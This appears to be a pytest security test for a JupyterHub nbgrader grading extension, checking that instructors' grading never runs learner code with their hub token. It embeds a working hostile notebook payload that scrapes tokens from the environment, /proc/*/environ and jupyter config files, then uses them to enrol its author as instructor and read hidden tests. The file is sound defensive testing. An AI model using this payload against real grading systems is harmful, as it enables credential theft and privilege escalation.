"""An instructor who grades with nbgrader's documented commands never runs learner code
with their own credentials (issue #11).

The instructor's side is a real learner-image container (uid 1000, as the hub spawns it)
with a jupyter server whose environment holds the instructor's hub token, this tree's
extension and the image's nbgrader_config.py mounted in; the grader grades in its real
Docker sandboxes. A hostile learner's solution looks for a token everywhere it could be
(environment, /proc/*/environ, the jupyter runtime and config folders), calls the hub,
the grader (enrol its author as instructor, read the hidden tests) and the instructor's
jupyter server with whatever it finds, and prints what it found, so that feedback made
from its outputs would carry the token back to it. A control run with nbgrader's own
Execute step shows the probe is real: there, with JUPYTERHUB_API_TOKEN even removed from
the command's environment, it reads the token from the server's /proc/<pid>/environ and
enrols itself.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import time
import uuid

import nbformat
import pytest
from extension_support import COURSE, LEARNER_IMAGE, REPO
from service_support import answered, free_port, source_notebook, write_source

pytestmark = pytest.mark.timeout(900)

ASSIGNMENT = "isafe"
PREFIX = "ls-test-ext-isafe-"
HOME = "/home/learner"
COURSE_DIR = f"{HOME}/course"
MARKER = "MALLORY-RAN-HERE"

# The hostile learner's code, in their solution cell (so it runs wherever the notebook
# is executed), followed by a correct answer: an honest grade is still earned.
PROBE = r'''
import glob, json, os, socket, urllib.error, urllib.request
HUB = {hub!r}
found = {{}}
for key, value in os.environ.items():
    if "TOKEN" in key.upper() and value:
        found["env:" + key] = value
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    for item in data.split(b"\0"):
        key, _, value = item.decode(errors="replace").partition("=")
        if "TOKEN" in key.upper() and value:
            found[path + ":" + key] = value
servers = []
for pattern in ("~/.local/share/jupyter/runtime/*.json", "~/.jupyter/*.json",
                "/tmp/*.json", "/opt/studio/etc/jupyter/*.json"):
    for path in glob.glob(os.path.expanduser(pattern)):
        try:
            conf = json.load(open(path))
        except Exception:
            continue
        if isinstance(conf, dict) and conf.get("token"):
            found["file:" + path] = conf["token"]
            if conf.get("url"):
                servers.append((conf["url"], conf["token"]))
calls = {{}}
def call(name, method, url, token, body=None):
    req = urllib.request.Request(
        url, method=method, data=json.dumps(body).encode() if body is not None else None,
        headers={{"Authorization": "token " + token, "Content-Type": "application/json"}})
    try:
        calls[name] = urllib.request.urlopen(req, timeout=5).status
    except urllib.error.HTTPError as e:
        calls[name] = e.code
    except Exception as e:
        calls[name] = type(e).__name__
for where, token in sorted(found.items()):
    call("hub user with " + where, "GET", HUB + "/hub/api/user", token)
    call("grader enrol with " + where, "POST",
         HUB + "/services/grader/api/courses/{course}/enrollments", token,
         {{"username": "mallory", "role": "instructor"}})
    call("grader source with " + where, "GET",
         HUB + "/services/grader/api/courses/{course}/assignments/{assignment}/source", token)
for url, token in servers:
    call("jupyter server " + url, "GET", url.rstrip("/") + "/api/contents", token)
open(os.path.expanduser("~/{marker}"), "w").write(socket.gethostname())
print("PROBE " + json.dumps({{"found": found, "calls": calls}}, sort_keys=True))
'''


# the instructor's local gradebook, as nbgrader's own API reads it: auto score per cell
GRADEBOOK = f"""
import json
from nbgrader.api import Gradebook
with Gradebook("sqlite:///{COURSE_DIR}/gradebook.db", "{COURSE}") as gb:
    print(json.dumps({{s.student_id: {{g.name: g.auto_score for n in s.notebooks
                                      for g in n.grades}}
                      for s in gb.assignment_submissions("{ASSIGNMENT}")}}))
"""


def docker(*args: str, stdin: bytes | None = None, timeout: float = 300
           ) -> subprocess.CompletedProcess:
    return subprocess.run(["docker", *args], input=stdin, capture_output=True,
                          timeout=timeout)


class Instructor:
    """A learner-image container as the hub runs an instructor's server, and their
    terminal in it (`docker exec` inherits the container's environment, as a JupyterLab
    terminal inherits the server's)."""

    def __init__(self, name: str):
        self.name = name

    def sh(self, script: str, *, env_unset: tuple[str, ...] = (), cwd: str = COURSE_DIR,
           stdin: bytes | None = None) -> subprocess.CompletedProcess:
        unset = ["env", *(f"--unset={v}" for v in env_unset)] if env_unset else []
        out = docker("exec", "-i", "-w", cwd, self.name, *unset, "sh", "-c", script,
                     stdin=stdin)
        out.text = out.stdout.decode(errors="replace") + out.stderr.decode(errors="replace")
        return out

    def put(self, path: str, data: bytes) -> None:
        out = self.sh(f"mkdir -p \"$(dirname '{path}')\" && cat > '{path}'", cwd=HOME,
                      stdin=data)
        assert out.returncode == 0, out.text

    def read(self, path: str) -> str:
        out = self.sh(f"cat '{path}'", cwd=HOME)
        assert out.returncode == 0, out.text
        return out.stdout.decode()

    def nbgrader(self, *args: str, env_unset: tuple[str, ...] = (), cwd: str = COURSE_DIR
                 ) -> subprocess.CompletedProcess:
        return self.sh(" ".join(["nbgrader", *args]), env_unset=env_unset, cwd=cwd)


@pytest.fixture
def instructor(grading_hub):
    hub = grading_hub
    if docker("image", "inspect", LEARNER_IMAGE).returncode != 0:
        pytest.fail(f"image {LEARNER_IMAGE} is missing: bash images/build.sh learner")
    name = PREFIX + uuid.uuid4().hex[:8]
    port = free_port()
    ext = REPO / "extensions" / "learning_studio_lab" / "learning_studio_lab"
    config = REPO / "images" / "learner" / "nbgrader_config.py"
    # host network: the container reaches the test hub on loopback, as a spawned server
    # reaches its hub; everything else is the image's own (uid 1000, its config files)
    out = docker(
        "run", "-d", "--name", name, "--network", "host",
        "-e", f"JUPYTERHUB_API_TOKEN={hub.token('prof')}",
        "-e", f"JUPYTERHUB_API_URL={hub.url}/hub/api",
        "-e", f"STUDIO_GRADER_URL={hub.url}/services/grader/",
        "-e", "PYTHONPATH=/opt/studio-test",
        "-v", f"{ext}:/opt/studio-test/learning_studio_lab:ro",
        "-v", f"{config}:/opt/studio/etc/jupyter/nbgrader_config.py:ro",
        LEARNER_IMAGE,
        "jupyter", "lab", "--no-browser", "--ServerApp.ip=127.0.0.1",
        f"--ServerApp.port={port}", f"--ServerApp.token={uuid.uuid4().hex}",
    )
    assert out.returncode == 0, out.stderr.decode()
    prof = Instructor(name)
    try:
        deadline = time.monotonic() + 90
        while prof.sh("ls .local/share/jupyter/runtime/jpserver-*.json", cwd=HOME).returncode:
            assert time.monotonic() < deadline, docker("logs", name).stderr.decode()[-3000:]
            time.sleep(0.5)
        yield prof
    finally:
        docker("rm", "-f", name)


def hostile_answer(student_nb: bytes, hub_url: str) -> bytes:
    nb = nbformat.reads(answered(student_nb, correct=True).decode(), as_version=4)
    probe = PROBE.format(hub=hub_url, course=COURSE, assignment=ASSIGNMENT, marker=MARKER)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "squares":
            cell.source = probe + "\n" + cell.source
    return nbformat.writes(nb).encode()


def probe_report(notebook_json: str) -> dict:
    nb = nbformat.reads(notebook_json, as_version=4)
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            text = output.get("text", "")
            for line in text.splitlines():
                if line.startswith("PROBE "):
                    return json.loads(line[len("PROBE "):])
    raise AssertionError("the probe printed nothing: it did not run where this came from")


def roles(hub, user: str) -> list[str]:
    me = hub.client(hub.token(user)).get(f"{hub.grader}/me").json()
    return next(c["roles"] for c in me["courses"] if c["slug"] == COURSE)


def wait_graded(hub, usernames) -> dict[str, dict]:
    prof = hub.client(hub.token("prof"))
    deadline = time.monotonic() + 420
    while True:
        subs = prof.get(f"{hub.grader}/courses/{COURSE}/assignments/{ASSIGNMENT}/"
                        "submissions").json()
        latest = {s["username"]: s for s in subs}
        if all(latest.get(u, {}).get("status") in ("graded", "failed") for u in usernames):
            return {u: prof.get(f"{hub.grader}/submissions/{latest[u]['id']}").json()
                    for u in usernames}
        assert time.monotonic() < deadline, f"not graded in time: {latest}"
        time.sleep(1)


@pytest.mark.docker
@pytest.mark.slow
def test_documented_instructor_workflow_never_runs_learner_code_with_their_token(
        grading_hub, instructor):
    hub = grading_hub
    hub.user("mallory", groups=(f"learners:{COURSE}",))
    prof_token = instructor.sh("printenv JUPYTERHUB_API_TOKEN", cwd=HOME).stdout.decode().strip()
    assert prof_token

    # author and release, as the docs say: source/<assignment>/ in the course folder
    instructor.put(f"{COURSE_DIR}/source/{ASSIGNMENT}/ps1.ipynb",
                   nbformat.writes(source_notebook()).encode())
    instructor.put(f"{COURSE_DIR}/source/{ASSIGNMENT}/data/input.csv", b"n\n3\n")
    for step in (("generate_assignment", ASSIGNMENT), ("release_assignment", ASSIGNMENT)):
        out = instructor.nbgrader(*step, f"--course={COURSE}")
        assert out.returncode == 0, out.text

    # three learners submit from their own servers: right, wrong, and hostile-but-right
    release = hub.client(hub.token("ann")).get(
        f"{hub.grader}/courses/{COURSE}/assignments/{ASSIGNMENT}/release").json()
    student_nb = base64.b64decode(release["files"]["ps1.ipynb"])
    notebooks = {"ann": answered(student_nb, correct=True),
                 "bob": answered(student_nb, correct=False),
                 "mallory": hostile_answer(student_nb, hub.url)}
    for user, nb in notebooks.items():
        r = hub.client(hub.token(user)).post(
            f"{hub.grader}/courses/{COURSE}/assignments/{ASSIGNMENT}/submissions",
            files=[("files", ("ps1.ipynb", nb))])
        assert r.status_code == 201, r.text
    graded = wait_graded(hub, notebooks)
    assert all(s["status"] == "graded" for s in graded.values()), graded

    # the documented workflow: collect, autograde, generate_feedback, release_feedback
    logs = {}
    for step in ("collect", "autograde", "generate_feedback", "release_feedback"):
        out = instructor.nbgrader(step, ASSIGNMENT, f"--course={COURSE}")
        assert out.returncode == 0, f"nbgrader {step}:\n{out.text[-4000:]}"
        logs[step] = out.text

    # mallory's code never ran in the instructor's container ...
    assert instructor.sh(f"test -e {HOME}/{MARKER}", cwd=HOME).returncode == 1
    # ... so nothing of the instructor's reached it: still a learner, and no hub, grader
    # or jupyter-server call made with any token
    assert roles(hub, "mallory") == ["learner"]
    local = instructor.read(f"{COURSE_DIR}/autograded/mallory/{ASSIGNMENT}/ps1.ipynb")
    report = probe_report(local)
    assert report == {"found": {}, "calls": {}}, report  # what it saw in the sandbox
    # the feedback that goes back to mallory carries no token either
    mallory = hub.client(hub.token("mallory"))
    feedback = mallory.get(f"{hub.grader}/submissions/{graded['mallory']['id']}/"
                           "feedback/ps1").text
    assert "PROBE" in feedback and prof_token not in feedback
    made = instructor.sh("cat autograded/*/*/*.ipynb feedback/*/*/*.html").stdout.decode()
    assert "PROBE" in made and prof_token not in made

    assert logs["autograde"].count("outputs of the grader's sandbox run") == 3

    # the honest workflow's grades are the grader's, cell by cell
    gradebook = json.loads(instructor.sh("python -", stdin=GRADEBOOK.encode()).stdout)
    expected = {user: {c["cell_id"]: c["auto_score"] for c in sub["cells"]}
                for user, sub in graded.items()}
    assert gradebook == expected
    assert gradebook["ann"]["test_squares"] == 2 and gradebook["bob"]["test_squares"] == 0
    assert gradebook["mallory"]["test_squares"] == 2
    # the grader's grades as nbgrader lists them
    out = instructor.nbgrader("list", "--inbound", f"--course={COURSE}")
    assert out.returncode == 0, out.text
    for user, sub in graded.items():
        assert (f"{COURSE} {ASSIGNMENT} {user} {sub['submitted_at']} graded "
                f"{sub['score']:g}/{sub['max_score']:g}") in out.text
    # and the instructor's own feedback replaced the grader's for each learner
    ann_feedback = hub.client(hub.token("ann")).get(
        f"{hub.grader}/submissions/{graded['ann']['id']}/feedback/ps1").text
    assert ann_feedback == instructor.read(f"{COURSE_DIR}/feedback/ann/{ASSIGNMENT}/ps1.html")

    # A gradebook made from other tests than the grader ran: refused, not run here
    out = instructor.sh(
        f"cp -r {COURSE_DIR} {HOME}/changed && cd {HOME}/changed && python - <<'EOF'\n"
        "import nbformat\n"
        f"path = 'source/{ASSIGNMENT}/ps1.ipynb'\n"
        "nb = nbformat.read(path, as_version=4)\n"
        "nb.cells[2].source += '\\nassert squares(2) == [1, 4]'\n"
        "nbformat.write(nb, path)\n"
        "EOF", cwd=HOME)
    assert out.returncode == 0, out.text
    out = instructor.nbgrader("generate_assignment", ASSIGNMENT, f"--course={COURSE}",
                              "--force", cwd=f"{HOME}/changed")
    assert out.returncode == 0, out.text
    out = instructor.nbgrader("autograde", ASSIGNMENT, f"--course={COURSE}",
                              "--student=mallory", "--force", cwd=f"{HOME}/changed")
    assert out.returncode != 0
    assert "differs from your gradebook's (cell 2 (test_squares) differs)" in out.text
    assert "generate_assignment <assignment> --force" in out.text
    assert instructor.sh(f"test -e {HOME}/{MARKER}", cwd=HOME).returncode == 1

    # Control: the same collected folder graded by nbgrader's own Execute step, with the
    # token even removed from the command's environment. The probe then runs here, finds
    # the token in the jupyter server's /proc/<pid>/environ and enrols its author.
    out = instructor.sh(
        f"cp -r {COURSE_DIR} {HOME}/control && cat > {HOME}/control/nbgrader_config.py <<'EOF'\n"
        "from nbgrader.converters.autograde import Autograde\n"
        "c.Autograde.autograde_preprocessors = "
        "Autograde.class_traits()['autograde_preprocessors'].default()\n"
        "EOF", cwd=HOME)
    assert out.returncode == 0, out.text
    out = instructor.nbgrader("autograde", ASSIGNMENT, f"--course={COURSE}",
                              "--student=mallory", "--force",
                              env_unset=("JUPYTERHUB_API_TOKEN",), cwd=f"{HOME}/control")
    assert out.returncode == 0, out.text
    assert instructor.sh(f"test -e {HOME}/{MARKER}", cwd=HOME).returncode == 0
    report = probe_report(instructor.read(
        f"{HOME}/control/autograded/mallory/{ASSIGNMENT}/ps1.ipynb"))
    stolen = {where for where, value in report["found"].items() if value == prof_token}
    assert stolen and all(w.startswith("/proc/") for w in stolen), report["found"]
    assert any(code == 201 for name, code in report["calls"].items()
               if name.startswith("grader enrol")), report["calls"]
    assert "instructor" in roles(hub, "mallory")


# ---- refusals, on this machine against a grader without workers -------------------------


def host_nbgrader(hub, cwd, *args: str) -> subprocess.CompletedProcess:
    """nbgrader as an instructor runs it, with the learner image's nbgrader_config.py."""
    shutil.copy(REPO / "images" / "learner" / "nbgrader_config.py", cwd / "nbgrader_config.py")
    paths = [str(REPO / "extensions" / "learning_studio_lab"), os.environ.get("PYTHONPATH", "")]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in paths if p),
           "STUDIO_GRADER_URL": f"{hub.url}/services/grader/",
           "JUPYTERHUB_API_TOKEN": hub.token("prof")}
    return subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=180)


def marked_answer(student_nb: bytes, marker) -> bytes:
    """A right answer that also leaves a file behind wherever it runs."""
    nb = nbformat.reads(answered(student_nb, correct=True).decode(), as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "squares":
            cell.source = f"open({str(marker)!r}, 'w').write('ran')\n" + cell.source
    return nbformat.writes(nb).encode()


@pytest.fixture
def course_folder(hub, tmp_path):
    """The instructor's course folder, with the gradebook generate_assignment makes."""
    prof = tmp_path / "prof"
    write_source(prof / "source" / "ps1")
    out = host_nbgrader(hub, prof, "generate_assignment", "ps1", f"--course={COURSE}")
    assert out.returncode == 0, out.stderr
    return prof


def test_autograde_refuses_work_that_did_not_come_from_collect(hub, course_folder, tmp_path):
    marker = tmp_path / "RAN-HERE"
    release = hub.client(hub.token("ann")).get(
        f"{hub.grader}/courses/{COURSE}/assignments/ps1/release").json()
    mine = course_folder / "submitted" / "eve" / "ps1"
    mine.mkdir(parents=True)
    (mine / "ps1.ipynb").write_bytes(
        marked_answer(base64.b64decode(release["files"]["ps1.ipynb"]), marker))
    out = host_nbgrader(hub, course_folder, "autograde", "ps1", f"--course={COURSE}")
    assert out.returncode != 0
    assert "has no timestamp.txt, so it did not come from `nbgrader collect`" in out.stderr
    assert f"nbgrader collect ps1 --course={COURSE}" in out.stderr
    assert not marker.exists()
    assert not list((course_folder / "autograded").rglob("*.ipynb"))


def test_autograde_of_work_the_grader_has_not_graded_waits_then_says_so(
        hub, course_folder, tmp_path):
    marker = tmp_path / "RAN-HERE"
    bob = hub.client(hub.token("bob"))
    release = bob.get(f"{hub.grader}/courses/{COURSE}/assignments/ps1/release").json()
    r = bob.post(f"{hub.grader}/courses/{COURSE}/assignments/ps1/submissions",
                 files=[("files", ("ps1.ipynb", marked_answer(
                     base64.b64decode(release["files"]["ps1.ipynb"]), marker)))])
    assert r.status_code == 201, r.text
    out = host_nbgrader(hub, course_folder, "collect", "ps1", f"--course={COURSE}",
                        "--student=bob")
    assert out.returncode == 0, out.stderr
    started = time.monotonic()
    out = host_nbgrader(hub, course_folder, "autograde", "ps1", f"--course={COURSE}",
                        "--student=bob", "--GraderExecute.wait_seconds=2",
                        "--GraderExecute.poll_seconds=0.5")
    assert out.returncode != 0
    assert time.monotonic() - started >= 2  # it waited for the grader first
    assert f"the grader has not graded bob's submission {r.json()['id']} of ps1: its " \
           "status is grading" in out.stderr
    assert "it is not run here instead" in out.stderr
    assert not marker.exists()
    # a timestamp the grader does not know (a hand-edited folder): refused as well
    (course_folder / "submitted" / "bob" / "ps1" / "timestamp.txt").write_text(
        "2001-01-01T00:00:00Z")
    out = host_nbgrader(hub, course_folder, "autograde", "ps1", f"--course={COURSE}",
                        "--student=bob", "--force")
    assert out.returncode != 0
    assert "the grader has no submission of bob for ps1 made at 2001-01-01T00:00:00Z" \
        in out.stderr
    assert not marker.exists()
